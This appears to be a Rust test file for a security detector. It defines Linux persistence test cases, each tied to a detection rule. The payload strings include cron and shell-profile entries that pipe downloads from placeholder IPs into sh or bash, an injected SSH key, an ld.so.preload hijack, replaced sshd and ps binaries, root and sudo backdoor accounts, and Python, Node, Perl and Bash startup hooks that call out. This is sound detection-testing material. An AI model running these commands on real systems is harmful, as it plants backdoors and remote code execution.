use super::{c, perl, python, sh, started};
use crate::case::Case;
use crate::tools::{Tool, has};

const GROUP: &str = "persistence";

pub(super) fn cases() -> Vec<Case> {
    let mut cases = vec![
        sh(
            GROUP,
            "timed command that fetches, shell",
            &["D-PER-CRON"],
            "mkdir -p /var/spool/cron/crontabs; echo '*/5 * * * * wget -qO- http://203.0.113.2/c.sh | sh' >> /var/spool/cron/crontabs/root; wget -q -O /dev/null http://203.0.113.2/beat",
        )
        .suspicious(),
        python(
            GROUP,
            "timed command that fetches, python",
            &["D-PER-CRON"],
            "import os\nos.makedirs('/etc/cron.d', exist_ok=True)\nopen('/etc/cron.d/apache2', 'w').write('@hourly root curl -s http://192.0.2.3/a | bash\\n')\n",
        )
        .suspicious(),
        sh(
            GROUP,
            "key for remote logins, shell",
            &["D-PER-KEYS"],
            "mkdir -p /root/.ssh; echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC0 attacker' >> /root/.ssh/authorized_keys; chmod 600 /root/.ssh/authorized_keys",
        )
        .suspicious(),
        perl(
            GROUP,
            "key for remote logins, perl",
            &["D-PER-KEYS"],
            r#"mkdir '/home/app/.ssh'; open(F, '>>', '/home/app/.ssh/authorized_keys'); print F "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI x\n"; close F;"#,
        )
        .suspicious(),
        sh(GROUP, "library forced into all, shell", &["D-PER-PRELOAD"], "cp /bin/busybox /usr/sbin/l.so; echo /usr/sbin/l.so > /etc/ld.so.preload"),
        c(
            GROUP,
            "library forced into all, c",
            &["D-PER-PRELOAD"],
            r#"int main() { int f = open("/etc/.p", O_CREAT | O_WRONLY, 0644); write(f, "/lib/x.so\n", 10); close(f); return rename("/etc/.p", "/etc/ld.so.preload"); }"#,
        ),
        sh(GROUP, "profile that fetches, shell", &["D-PER-UNIT"], "echo 'wget -qO- http://203.0.113.2/p | sh &' >> /etc/profile; wget -q -O /dev/null http://203.0.113.2/")
            .suspicious(),
        python(
            GROUP,
            "profile that fetches, python",
            &["D-PER-UNIT"],
            "open('/root/.bashrc', 'a').write('\\n(curl -s http://192.0.2.12/b|bash) 2>/dev/null &\\n')\n",
        )
        .suspicious(),
        sh(GROUP, "server of logins replaced, shell", &["D-PER-BINREPL"], "cp /bin/busybox /tmp/n; cat /tmp/n > /usr/sbin/sshd; chmod 755 /usr/sbin/sshd")
            .file("usr/sbin/sshd", 0o755, "#!/bin/sh\necho real\n"),
        python(
            GROUP,
            "list of processes replaced, python",
            &["D-PER-BINREPL"],
            "import os\nopen('/usr/bin/.ps', 'w').write('#!/bin/sh\\nexec /bin/busybox ps | grep -v x\\n')\nos.chmod('/usr/bin/.ps', 0o755)\nos.rename('/usr/bin/.ps', '/usr/bin/ps')\n",
        )
        .file("usr/bin/ps", 0o755, "#!/bin/sh\nexec /bin/busybox ps\n"),
        sh(GROUP, "account with all rights, shell", &["D-PER-ACCOUNT"], "echo 'sys:x:0:0::/:/bin/sh' >> /etc/passwd; echo 'sys::19000::::::' >> /etc/shadow")
            .suspicious(),
        python(
            GROUP,
            "account with all rights, python",
            &["D-PER-ACCOUNT"],
            "import os\nos.makedirs('/etc/sudoers.d', exist_ok=True)\nopen('/etc/sudoers.d/90-x', 'w').write('app ALL=(ALL) NOPASSWD: ALL\\n')\n",
        )
        .suspicious(),
        started(GROUP, "hook of an interpreter, path file", &["D-PER-HOOKFIRE"], &["/bin/true"])
            .with(&[Tool::Python])
            .file(
                "usr/local/lib/python3.11/dist-packages/a.pth",
                0o644,
                "import os; os.system('wget -q -O /tmp/.h http://203.0.113.21/h.sh; sh /tmp/.h')\n",
            ),
        started(GROUP, "hook of an interpreter, site module", &["D-PER-HOOKFIRE"], &["/bin/true"])
            .with(&[Tool::Python])
            .file(
                "usr/lib/python3.11/sitecustomize.py",
                0o644,
                "import urllib.request\ntry: urllib.request.urlopen('http://stats.example/p', timeout=3).read()\nexcept Exception: pass\n",
            ),
        started(GROUP, "hook of a shell, BASH_ENV", &["D-PER-HOOKFIRE", "D-DLX-PIPESH"], &["/bin/true"])
            .with(&[Tool::Bash])
            .file("usr/bin/.env", 0o644, "wget -q -O /var/tmp/.b http://192.0.2.70/b.sh\n")
            .file("root/.bashrc", 0o644, ". /usr/bin/.env\n")
            .env("BASH_ENV=/usr/bin/.env"),
        started(GROUP, "hook of a shell, profile", &["D-PER-HOOKFIRE"], &["/bin/true"])
            .file("etc/profile.d/locale.sh", 0o644, "( wget -q -O /dev/null http://198.51.100.70/p )\n")
            .file("etc/profile", 0o644, "for f in /etc/profile.d/*.sh; do . $f; done\n"),
    ];
    if has(Tool::Node) {
        cases.push(
            started(GROUP, "hook of an interpreter, NODE_OPTIONS", &["D-PER-HOOKFIRE"], &["/bin/true"])
                .with(&[Tool::Node])
                .file(
                    "usr/share/pre.js",
                    0o644,
                    "require('http').get('http://203.0.113.91/n', r => r.resume()).on('error', () => 0);\n",
                )
                .env("NODE_OPTIONS=--require /usr/share/pre.js"),
        );
        cases.push(
            started(GROUP, "hook of an interpreter, PERL5OPT", &["D-PER-HOOKFIRE"], &["/bin/true"])
                .with(&[Tool::Perl])
                .file(
                    "usr/share/perl/P.pm",
                    0o644,
                    "package P; use IO::Socket::INET; my $s = IO::Socket::INET->new('192.0.2.92:80'); print $s \"GET /\\r\\n\\r\\n\" if $s; 1;\n",
                )
                .env("PERL5OPT=-I/usr/share/perl -MP"),
        );
    }
    cases
}
